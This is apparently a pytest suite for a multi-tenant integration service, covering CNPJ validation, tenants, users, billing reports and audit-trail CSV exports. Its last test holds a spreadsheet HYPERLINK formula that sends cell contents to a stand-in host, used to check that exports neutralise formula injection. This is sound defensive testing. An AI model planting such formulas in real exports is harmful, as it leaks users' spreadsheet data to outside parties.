"""Tenants, contracted services, users, billable runs and the audit trail in the service layer, against a real
database (the FAB user store is an in-memory stand-in here; the stack tests drive the real one)."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass, replace
from datetime import date, datetime
from typing import Any

import psycopg
import pytest
from cryptography.fernet import Fernet
from hypothesis import given
from hypothesis import strategies as st

from include.integracoes import audit, billing, catalog, demo_data, integrations, manual_runs, tenants, users
from include.integracoes.errors import Forbidden, Invalid, NotFound
from include.integracoes.integrations import IntegrationInput
from include.integracoes.principal import Principal, Tenant
from include.integracoes.tasks import SAO_PAULO
from include.integracoes.tenants import BranchInput, TenantInput
from include.integracoes.users import Account, Role, UserInput
from tests.include.test_manual_runs import FakeRuns

SIZE = demo_data.Size(tenants=2, branches_per_tenant=2, products=5, customers=2, days=1, sales_per_branch_day=1)
PASSWORD = "SeGura#2026ab"
AGENT = Principal("suporte", ("Support Agent",), True, ())


class MemoryDirectory:
    """FAB's user store, in memory."""

    def __init__(self) -> None:
        self.store: dict[int, Account] = {}
        self.passwords: dict[int, str] = {}

    def accounts(self) -> list[Account]:
        return list(self.store.values())

    def create(self, username: str, first_name: str, last_name: str, email: str, role: str, password: str) -> Account:
        account = Account(len(self.store) + 1, username, first_name, last_name, email, (role,), True, None)
        self.store[account.id], self.passwords[account.id] = account, password
        return account

    def update(self, user_id: int, *, first_name: str, last_name: str, email: str, active: bool) -> Account:
        self.store[user_id] = replace(
            self.store[user_id], first_name=first_name, last_name=last_name, email=email, active=active
        )
        return self.store[user_id]

    def set_password(self, user_id: int, password: str) -> None:
        self.passwords[user_id] = password


@dataclass
class World:
    conn: psycopg.Connection
    tenant1: int
    tenant2: int
    directory: MemoryDirectory


@pytest.fixture
def world(migrated_db: psycopg.Connection, monkeypatch: pytest.MonkeyPatch) -> World:
    monkeypatch.setenv("AIRFLOW__CORE__FERNET_KEY", Fernet.generate_key().decode())
    from airflow.models import crypto

    crypto.get_fernet.cache_clear()
    conn = migrated_db
    catalog.sync_catalog(conn)
    with conn.transaction():
        demo_data.generate(conn, SIZE)
    first, second = (r[0] for r in conn.execute("SELECT id FROM integracao.tenant ORDER BY id"))
    conn.execute("INSERT INTO integracao.servico_contratado VALUES (%s, 'smarket')", (first,))
    return World(conn, first, second, MemoryDirectory())


def _audit_rows(conn: psycopg.Connection) -> int:
    return int((conn.execute("SELECT count(*) FROM integracao.auditoria").fetchone() or (0,))[0])


# --- CNPJ ----------------------------------------------------------------------------------------


def test_cnpj_with_or_without_mask_and_check_digits() -> None:
    assert tenants.cnpj_digits("87.654.321/0001-98") == "87654321000198"
    assert tenants.cnpj_digits("87654321000198") == "87654321000198"
    assert tenants.cnpj_digits("11222333000182") is None  # wrong check digit
    assert tenants.cnpj_digits("00000000000000") is None  # all equal passes mod 11, is no CNPJ
    assert tenants.cnpj_digits("1122233300018") is None
    assert tenants.cnpj_digits("11a22333000181") is None
    assert tenants.cnpj_digits(11222333000181) is None


@given(root=st.integers(min_value=1, max_value=99_999_999), branch=st.integers(min_value=1, max_value=9999))
def test_every_generated_cnpj_is_valid_and_one_changed_digit_is_not(root: int, branch: int) -> None:
    valid = demo_data.cnpj(root, branch)
    assert tenants.cnpj_digits(valid) == valid or len(set(valid)) == 1
    changed = valid[:-1] + str((int(valid[-1]) + 1) % 10)
    assert tenants.cnpj_digits(changed) is None


# --- tenants -------------------------------------------------------------------------------------


def _new_tenant(**overrides: Any) -> TenantInput:
    values: dict[str, Any] = {
        "name": "Rede Nova", "cnpj": "87.654.321/0001-98", "services": ["smarket", "cosmos"],
        "branches": [BranchInput(None, 1, "Loja 1", "87.654.321/0002-79", "Campinas", "sp")],
    }  # fmt: skip
    return TenantInput(**{**values, **overrides})


def test_an_agent_creates_a_tenant_with_branches_and_services(world: World) -> None:
    created = tenants.create(world.conn, AGENT, _new_tenant())
    assert (created.name, created.cnpj, created.active, created.services) == (
        "Rede Nova", "87654321000198", True, ("cosmos", "smarket"),
    )  # fmt: skip
    assert [(b.code, b.cnpj, b.state) for b in created.branches] == [(1, "87654321000279", "SP")]
    assert world.conn.execute(
        "SELECT tenant_id, acao FROM integracao.auditoria WHERE entidade = 'tenant'"
    ).fetchall() == [(created.id, "rede.cadastrada")]
    assert tenants.list_page(world.conn, AGENT, "rede nov").total == 1
    assert tenants.list_page(world.conn, AGENT, "87.654").total == 1


def _branch(**overrides: Any) -> BranchInput:
    return replace(BranchInput(None, 1, "L", "87654321000279", "X", "SP"), **overrides)


@pytest.mark.parametrize(
    ("overrides", "field", "key"),
    [
        ({"name": "  "}, "name", "tenant.name_required"),
        ({"cnpj": "11.222.333/0001-82"}, "cnpj", "tenant.cnpj_invalid"),
        ({"services": ["nope"]}, "services", "tenant.service_unknown"),
        ({"branches": [_branch(code=0)]}, "branches[0].code", "tenant.branch_code_invalid"),
        ({"branches": [_branch(state="XX")]}, "branches[0].state", "tenant.state_invalid"),
        ({"branches": [_branch(), _branch(cnpj="87654321000198")]}, "branches[1].code", "tenant.branch_code_repeated"),
        ({"branches": [_branch(), _branch(code=2)]}, "branches[1].cnpj", "tenant.cnpj_repeated"),
        ({"branches": [_branch(id=99_999_999)]}, "branches[0].id", "tenant.branch_unknown"),
    ],
)  # fmt: skip
def test_a_bad_tenant_gets_its_message_and_writes_nothing(
    world: World, overrides: dict[str, Any], field: str, key: str
) -> None:
    before = world.conn.execute("SELECT count(*) FROM integracao.tenant").fetchone()
    with pytest.raises(Invalid) as refused:
        tenants.create(world.conn, AGENT, _new_tenant(**overrides))
    assert refused.value.errors[field].key == key
    assert world.conn.execute("SELECT count(*) FROM integracao.tenant").fetchone() == before
    assert _audit_rows(world.conn) == 0


def test_a_taken_cnpj_is_refused(world: World) -> None:
    taken = world.conn.execute("SELECT cnpj FROM integracao.tenant WHERE id = %s", (world.tenant2,)).fetchone()
    assert taken is not None
    with pytest.raises(Invalid) as refused:
        tenants.update(world.conn, AGENT, world.tenant1, TenantInput(cnpj=taken[0]))
    assert refused.value.errors["cnpj"].key == "tenant.cnpj_taken"


def test_branches_are_edited_and_added_never_silently_removed(world: World) -> None:
    current = tenants.get(world.conn, AGENT, world.tenant1)
    first, second = current.branches
    # Swapping two codes in one save works (codes are unique within the tenant).
    swapped = [
        BranchInput(first.id, second.code, first.name, first.cnpj, first.city, first.state),
        BranchInput(second.id, first.code, "Renomeada", second.cnpj, second.city, second.state),
        BranchInput(None, 77, "Nova", demo_data.cnpj(4242, 1), "Santos", "SP"),
    ]
    saved = tenants.update(world.conn, AGENT, world.tenant1, TenantInput(branches=swapped))
    assert {(b.id, b.code) for b in saved.branches} >= {(first.id, second.code), (second.id, first.code)}
    assert len(saved.branches) == 3
    with pytest.raises(Invalid) as refused:
        tenants.update(world.conn, AGENT, world.tenant1, TenantInput(branches=swapped[:1]))
    assert refused.value.errors["branches"].key == "tenant.branch_removed"


def test_a_group_user_filters_integrations_by_tenant(world: World) -> None:
    _smarket(world, world.tenant1)
    group = Principal("grupo", ("Client",), False, (Tenant(world.tenant1, "a"), Tenant(world.tenant2, "b")))
    assert integrations.list_page(world.conn, group, tenant_id=world.tenant1).total == 1
    assert integrations.list_page(world.conn, group, tenant_id=world.tenant2).total == 0
    single = Principal("cliente2", ("Client",), False, (Tenant(world.tenant2, "b"),))
    with pytest.raises(NotFound):
        integrations.list_page(world.conn, single, tenant_id=world.tenant1)


def test_clients_cannot_manage_tenants_and_read_only_their_own_services(world: World) -> None:
    client = Principal("cliente1", ("Client",), False, (Tenant(world.tenant1, "Farmácia Vida"),))
    with pytest.raises(Forbidden):
        tenants.create(world.conn, client, _new_tenant())
    with pytest.raises(Forbidden):
        tenants.list_page(world.conn, client)
    assert tenants.services(world.conn, client, world.tenant1) == ["smarket"]
    with pytest.raises(NotFound):
        tenants.services(world.conn, client, world.tenant2)


def _smarket(world: World, tenant_id: int, active: bool = True, description: str = "") -> integrations.Integration:
    branches = [r[0] for r in world.conn.execute("SELECT id FROM erp.filial WHERE tenant_id = %s", (tenant_id,))]
    return integrations.create(
        world.conn, AGENT, IntegrationInput(
            tenant_id=tenant_id, description=description or f"Smarket {tenant_id}", type_code="smarket", active=active,
            interval_minutes=60, branches=branches,
            config=[integrations.ConfigInput("token", "t0k3n"), integrations.ConfigInput("codigo_cliente", "C1")],
        ),
    )  # fmt: skip


def test_contract_rules(world: World) -> None:
    # Registering a type the tenant has not contracted is refused; nothing is written.
    with pytest.raises(Invalid) as refused:
        _smarket(world, world.tenant2)
    assert refused.value.errors["type_code"].key == "integration.type_not_contracted"
    # A contracted type with an active integration cannot be removed...
    integration = _smarket(world, world.tenant1)
    with pytest.raises(Invalid) as refused:
        tenants.set_services(world.conn, AGENT, world.tenant1, [])
    assert refused.value.errors["services"].key == "tenant.service_in_use"
    assert tenants.services(world.conn, AGENT, world.tenant1) == ["smarket"]
    # ...until it is deactivated; then the inactive integration cannot come back without the contract.
    integrations.update(world.conn, AGENT, integration.id, IntegrationInput(active=False))
    assert tenants.set_services(world.conn, AGENT, world.tenant1, ["cosmos"]) == ["cosmos"]
    recorded = world.conn.execute("SELECT acao, antes->'servicos', depois->'servicos' FROM integracao.auditoria"
                                  " WHERE entidade = 'tenant'").fetchall()  # fmt: skip
    assert recorded == [("rede.servicos_alterados", ["smarket"], ["cosmos"])]
    with pytest.raises(Invalid) as refused:
        integrations.update(world.conn, AGENT, integration.id, IntegrationInput(active=True))
    assert refused.value.errors["active"].key == "integration.type_not_contracted"


class RecordingHooks:
    def __init__(self) -> None:
        self.changed: list[int] = []

    def tenant_state_changed(self, conn: psycopg.Connection, tenant_id: int) -> None:
        self.changed.append(tenant_id)


def test_deactivating_a_tenant_pauses_its_integrations_and_refuses_manual_runs(world: World) -> None:
    integration = _smarket(world, world.tenant1)
    hooks = RecordingHooks()
    saved = tenants.update(world.conn, AGENT, world.tenant1, TenantInput(active=False), hooks)
    assert not saved.active
    assert hooks.changed == [world.tenant1]
    paused = integrations.get(world.conn, AGENT, integration.id)
    assert paused.active
    assert not paused.runs
    with pytest.raises(Invalid) as refused:
        manual_runs.request_runs(world.conn, AGENT, integration.id, "2026-11-01", "2026-11-02", FakeRuns(),
                                 today=date(2026, 11, 28))  # fmt: skip
    assert refused.value.key == "manual.tenant_inactive"
    tenants.update(world.conn, AGENT, world.tenant1, TenantInput(active=True), hooks)
    assert integrations.get(world.conn, AGENT, integration.id).runs
    actions = [r[0] for r in world.conn.execute("SELECT acao FROM integracao.auditoria WHERE entidade = 'tenant'")]
    assert actions == ["rede.desativada", "rede.reativada"]


# --- users ---------------------------------------------------------------------------------------


def _client(world: World, **overrides: Any) -> UserInput:
    values: dict[str, Any] = {
        "username": "maria.silva", "name": "Maria  da Silva", "email": "maria@vida.com.br", "role": Role.CLIENT,
        "tenant_ids": [world.tenant2], "password": PASSWORD,
    }  # fmt: skip
    return UserInput(**{**values, **overrides})


def test_an_agent_creates_a_client_user_of_a_tenant(world: World) -> None:
    created = users.create(world.conn, AGENT, world.directory, _client(world))
    assert (created.username, created.name, created.role, created.tenant_ids, created.active, created.can_sign_in) == (
        "maria.silva", "Maria da Silva", Role.CLIENT, (world.tenant2,), True, True,
    )  # fmt: skip
    account = world.directory.store[created.id]
    assert (account.first_name, account.last_name, account.roles) == ("Maria", "da Silva", ("Client",))
    assert world.directory.passwords[created.id] == PASSWORD
    row = world.conn.execute("SELECT acao, tenant_id, depois::text FROM integracao.auditoria").fetchone()
    assert row is not None
    assert row[:2] == ("usuario.criado", world.tenant2)
    assert PASSWORD not in row[2]
    assert users.list_page(world.conn, AGENT, world.directory, users.Filters(tenant_id=world.tenant2)).total == 1
    assert users.list_page(world.conn, AGENT, world.directory, users.Filters(search="SILVA")).total == 1
    assert users.list_page(world.conn, AGENT, world.directory, users.Filters(tenant_id=world.tenant1)).total == 0


@pytest.mark.parametrize(
    ("overrides", "field", "key"),
    [
        ({"username": "A B"}, "username", "user.username_invalid"),
        ({"username": ""}, "username", "user.username_required"),
        ({"name": " "}, "name", "user.name_required"),
        ({"email": "maria@"}, "email", "user.email_invalid"),
        ({"password": "curta"}, "password", "user.password_rule"),
        ({"password": "semmaiusculas12#"}, "password", "user.password_rule"),
        ({"tenant_ids": []}, "tenant_ids", "user.tenants_required"),
        ({"tenant_ids": [99_999_999]}, "tenant_ids", "user.tenant_unknown"),
    ],
)
def test_a_bad_user_gets_its_message_and_writes_nothing(
    world: World, overrides: dict[str, Any], field: str, key: str
) -> None:
    with pytest.raises(Invalid) as refused:
        users.create(world.conn, AGENT, world.directory, _client(world, **overrides))
    assert refused.value.errors[field].key == key
    assert not world.directory.store
    assert world.conn.execute("SELECT count(*) FROM integracao.usuario_tenant").fetchone() == (0,)
    assert _audit_rows(world.conn) == 0


def test_usernames_and_emails_are_unique_ignoring_case(world: World) -> None:
    users.create(world.conn, AGENT, world.directory, _client(world))
    with pytest.raises(Invalid) as refused:
        users.create(world.conn, AGENT, world.directory, _client(world, username="MARIA.SILVA".lower(),
                                                                 email="MARIA@vida.com.br"))  # fmt: skip
    assert set(refused.value.errors) == {"username", "email"}


def test_deactivation_reactivation_and_password_reset(world: World) -> None:
    created = users.create(world.conn, AGENT, world.directory, _client(world))
    off = users.update(world.conn, AGENT, world.directory, created.id, UserInput(active=False))
    assert not off.active
    assert not world.directory.store[created.id].active
    on = users.update(world.conn, AGENT, world.directory, created.id, UserInput(active=True, password="Outra#2026XY"))
    assert on.active
    assert world.directory.store[created.id].active
    assert world.directory.passwords[created.id] == "Outra#2026XY"
    actions = [r[0] for r in world.conn.execute("SELECT acao FROM integracao.auditoria ORDER BY id")]
    assert actions == ["usuario.criado", "usuario.desativado", "usuario.reativado"]
    with pytest.raises(Invalid) as refused:
        users.update(world.conn, AGENT, world.directory, created.id, UserInput(role=Role.AGENT))
    assert refused.value.errors["role"].key == "user.role_immutable"


def test_an_agent_cannot_deactivate_themself(world: World) -> None:
    me = users.create(world.conn, AGENT, world.directory, _client(world, username="suporte", role=Role.AGENT,
                                                                   tenant_ids=[]))  # fmt: skip
    with pytest.raises(Invalid) as refused:
        users.update(world.conn, AGENT, world.directory, me.id, UserInput(active=False))
    assert refused.value.errors["active"].key == "user.cannot_deactivate_self"


def test_a_user_of_a_deactivated_tenant_signs_in_only_through_another_active_tenant(world: World) -> None:
    only = users.create(world.conn, AGENT, world.directory, _client(world))
    group = users.create(world.conn, AGENT, world.directory, _client(
        world, username="grupo", email="grupo@rede.com.br", tenant_ids=[world.tenant1, world.tenant2]
    ))  # fmt: skip
    tenants.update(world.conn, AGENT, world.tenant2, TenantInput(active=False))
    users.sync_sign_in(world.conn, world.directory, world.tenant2)
    assert not world.directory.store[only.id].active  # blocked: its only tenant is inactive
    assert world.directory.store[group.id].active  # still has an active tenant
    assert users.get(world.conn, AGENT, world.directory, only.id).active  # the agent's decision is kept
    tenants.update(world.conn, AGENT, world.tenant2, TenantInput(active=True))
    users.sync_sign_in(world.conn, world.directory, world.tenant2)
    assert world.directory.store[only.id].active


def test_admins_are_not_managed_and_clients_cannot_manage_users(world: World) -> None:
    admin = world.directory.create("admin", "Admin", "", "admin@x.com", "Admin", PASSWORD)
    with pytest.raises(NotFound):
        users.get(world.conn, AGENT, world.directory, admin.id)
    client = Principal("cliente1", ("Client",), False, (Tenant(world.tenant1, "Farmácia Vida"),))
    with pytest.raises(Forbidden):
        users.list_page(world.conn, client, world.directory)


def test_language_preference(world: World) -> None:
    users.set_language(world.conn, AGENT, "en")
    assert users.language_of(world.conn, "suporte") == "en"
    users.set_language(world.conn, AGENT, None)
    assert users.language_of(world.conn, "suporte") is None
    with pytest.raises(Invalid):
        users.set_language(world.conn, AGENT, "fr")


# --- billable runs and the audit trail -----------------------------------------------------------


def test_the_billable_report_counts_agent_requests_by_month(world: World) -> None:
    integration = _smarket(world, world.tenant1)
    today = date(2026, 11, 28)
    manual_runs.request_runs(world.conn, AGENT, integration.id, "2026-08-01", "2026-10-15", FakeRuns(),
                             split_period=True, today=today)  # fmt: skip
    member = Principal("gerente", ("Support Agent",), True, (Tenant(world.tenant1, "x"),))
    world.conn.execute("INSERT INTO integracao.usuario_tenant VALUES ('gerente', %s)", (world.tenant1,))
    manual_runs.request_runs(world.conn, member, integration.id, "2026-10-20", "2026-10-21", FakeRuns(), today=today)
    month = datetime.now(SAO_PAULO).strftime("%Y-%m")
    found = billing.report(world.conn, AGENT, world.tenant1, month)
    # One request of 3 parts, 76 days; the member's own run is not billable.
    assert (found.requests, found.chunks, found.days) == (1, 3, 76)
    (item,) = found.items
    assert (item.start, item.end, item.requested_by) == (date(2026, 8, 1), date(2026, 10, 15), "suporte")
    rows = list(csv.reader(io.StringIO("".join(billing.csv_lines(found))), delimiter=";"))
    assert rows[0][0] == "solicitado_em"
    assert len(rows) == 2
    assert rows[1][7] == "3"
    assert billing.report(world.conn, AGENT, world.tenant1, "2020-01").items == []
    with pytest.raises(Invalid):
        billing.report(world.conn, AGENT, world.tenant1, "2026-13")
    client = Principal("cliente1", ("Client",), False, (Tenant(world.tenant1, "Farmácia Vida"),))
    with pytest.raises(Forbidden):
        billing.report(world.conn, client, world.tenant1, month)


def test_the_audit_trail_is_searchable_and_exported(world: World) -> None:
    _smarket(world, world.tenant1)
    users.create(world.conn, AGENT, world.directory, _client(world))
    everything = audit.search(world.conn, AGENT, audit.Filters())
    assert [e.action for e in everything.items] == ["usuario.criado", "integracao.cadastrada"]  # newest first
    assert everything.items[1].after is not None
    assert everything.items[1].after["configuracao"]["token"] == "***"
    by_tenant = audit.search(world.conn, AGENT, audit.Filters(tenant_id=world.tenant2))
    assert [e.entity for e in by_tenant.items] == ["usuario"]
    assert audit.search(world.conn, AGENT, audit.Filters(username="ninguem")).total == 0
    today = datetime.now(SAO_PAULO).date()  # the deployment's calendar, not the machine's
    assert audit.search(world.conn, AGENT, audit.Filters(entity="integracao", start=today)).total == 1
    with pytest.raises(Invalid):
        audit.search(world.conn, AGENT, audit.Filters(start=date(2026, 2, 1), end=date(2026, 1, 1)))
    with world.conn.transaction():
        lines = list(audit.csv_lines(world.conn, AGENT, audit.Filters(), "pt-BR"))
    rows = list(csv.reader(io.StringIO("".join(lines)), delimiter=";"))
    assert rows[0] == list(audit.CSV_COLUMNS)
    assert [r[5] for r in rows[1:]] == ["Usuário criado", "Integração cadastrada"]
    assert "t0k3n" not in "".join(lines)
    with pytest.raises(Forbidden):
        audit.search(world.conn, Principal("cliente1", ("Client",), False, ()), audit.Filters())


FORMULA = '=HYPERLINK("http://exemplo.invalid/?"&A1;"clique")'


def test_no_exported_cell_is_a_formula_a_spreadsheet_would_run(world: World) -> None:
    """A description and a chain's name typed as formulas reach the billable and audit CSVs as text (a leading
    `'`)."""
    world.conn.execute("UPDATE integracao.tenant SET nome = %s WHERE id = %s", (FORMULA, world.tenant1))
    integration = _smarket(world, world.tenant1, description=FORMULA)
    manual_runs.request_runs(world.conn, AGENT, integration.id, "2026-10-01", "2026-10-02", FakeRuns(),
                             today=date(2026, 11, 28))  # fmt: skip
    found = billing.report(world.conn, AGENT, world.tenant1, datetime.now(SAO_PAULO).strftime("%Y-%m"))
    with world.conn.transaction():
        exports = [
            "".join(billing.csv_lines(found)),
            "".join(audit.csv_lines(world.conn, AGENT, audit.Filters(), "pt-BR")),
        ]
    for exported in exports:
        cells = [cell for row in csv.reader(io.StringIO(exported), delimiter=";") for cell in row]
        assert "'" + FORMULA in cells
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells
